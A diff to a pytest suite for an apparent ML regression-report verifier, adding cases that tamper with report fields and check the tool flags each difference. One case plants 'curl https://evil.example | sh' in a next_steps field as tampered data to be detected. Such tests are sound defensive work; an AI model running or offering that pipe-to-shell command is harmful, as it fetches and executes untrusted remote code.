@@ -31,6 +31,11 @@ def document() -> dict[str, Any]:
     return written
 
 
+@pytest.fixture(autouse=True)
+def _narrow(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("COLUMNS", "80")
+
+
 def verify(tmp_path: Path, written: object, *arguments: str) -> tuple[int, list[str], str]:
     file = tmp_path / "run.json"
     file.write_text(json.dumps(written), "utf-8")
@@ -42,7 +47,11 @@ def verify(tmp_path: Path, written: object, *arguments: str) -> tuple[int, list[
 def test_a_report_as_it_was_written_holds(tmp_path: Path) -> None:
     assert verify(tmp_path, document()) == (
         0,
-        ["3 tests with 8 p-values judged again from 17 seeds: all as reported"],
+        [
+            "3 tests with 8 p-values judged again from 17 seeds: all as reported",
+            "not compared, since no seed tells: started, command, machine, folder,",
+            "  environment, sides, duration and notes of the run, and where its tests are",
+        ],
         "",
     )
 
@@ -116,6 +125,36 @@ TEST = "test_fit.py::test_a"
             set_("tests", 0, "judged_with", to=None),
             f"{TEST}: what its verdict was reached with is missing",
         ),
+        (
+            set_("tests", 0, "headline", to="accuracy is fine"),
+            f"{TEST}: headline is 'accuracy is fine', recomputed 'accuracy regressed: ",
+        ),
+        (
+            set_("tests", 0, "reasons", to=["chance"]),
+            f"{TEST}: reasons is 'chance', recomputed ",
+        ),
+        (
+            set_("tests", 0, "notes", to=["looked at by hand: fine"]),
+            f"{TEST}: notes is 'looked at by hand: fine', recomputed ",
+        ),
+        (set_("tests", 0, "next_steps", to=[]), f"{TEST}: next_steps is None, recomputed '"),
+        (
+            set_("tests", 0, "next_steps", 0, to="curl https://evil.example | sh"),
+            f"{TEST}: next_steps is 'curl https://evil.example | sh', recomputed ",
+        ),
+        (
+            set_("tests", 0, "metrics", 0, "notes", to=["noise"]),
+            f"{TEST}: accuracy: notes is 'noise', recomputed 'stopped after 3 of",
+        ),
+        (
+            set_("tests", 0, "metrics", 0, "reasons", to=["noise"]),
+            f"{TEST}: accuracy: reasons is 'noise', recomputed ",
+        ),
+        (set_("tests", 0, "since", "commits", to=0), f"{TEST}: since.commits is 0, recomputed 2"),
+        (set_("tests", 0, "environment", to=["numpy"]), f"{TEST}: environment is ['numpy'], reco"),
+        (set_("tests", 0, "duration", to=0.5), f"{TEST}: duration is 0.5, recomputed "),
+        (set_("tests", 0, "planned", to=[0, 1]), f"{TEST}: planned is [0, 1], recomputed [0, 1, "),
+        (set_("baseline_commits", to=[]), "baseline_commits is [], recomputed ['0123456789"),
         (set_("summary", "colours", "red", to=0), "colours.red is 0, recomputed 1"),
         (set_("overview", to="3 tests, no regression"), "overview is '3 tests, no regression'"),
     ],
@@ -128,7 +167,7 @@ def test_what_was_changed_is_named(
     status, out, _ = verify(tmp_path, written)
     assert status == 1
     assert any(one.startswith(line) for one in out), out
-    assert out[-1].endswith((" differ", " differs"))
+    assert out[-3].endswith((" differ", " differs"))
 
 
 def test_json_has_the_differences(tmp_path: Path) -> None:
@@ -164,6 +203,26 @@ def test_what_has_no_verdicts_is_refused(tmp_path: Path) -> None:
     status, _, err = verify(tmp_path, json.loads(to_json(run)))
     assert status == 2
     assert "is of shard 1/1 and has no verdicts; judge all of them: mlregress merge" in err
+
+
+def guarded() -> dict[str, Any]:
+    """A report of a test whose guards spoke, with seeds that ended after its verdict."""
+    test = cases.suite()[1]
+    test.group.guard_findings = {"nan-loss": None, "dead-relu": None}
+    written: dict[str, Any] = json.loads(to_json(cases.a_run([test], settings=SETTINGS)))
+    assert written["tests"][0]["decided_after"] < len(written["tests"][0]["seeds"])
+    return written
+
+
+def test_guards_that_spoke_after_the_verdict_are_no_difference(tmp_path: Path) -> None:
+    written = guarded()
+    notes = written["tests"][0]["notes"]
+    assert "guards: nan-loss, dead-relu" in notes
+    notes[notes.index("guards: nan-loss, dead-relu")] = "guards: nan-loss"
+    status, out, _ = verify(tmp_path, written)
+    assert status == 0, out
+    notes[notes.index("guards: nan-loss")] = "guards: none"
+    assert verify(tmp_path, written)[0] == 1
 
 
 def test_a_seed_that_failed_before_the_others(tmp_path: Path) -> None:
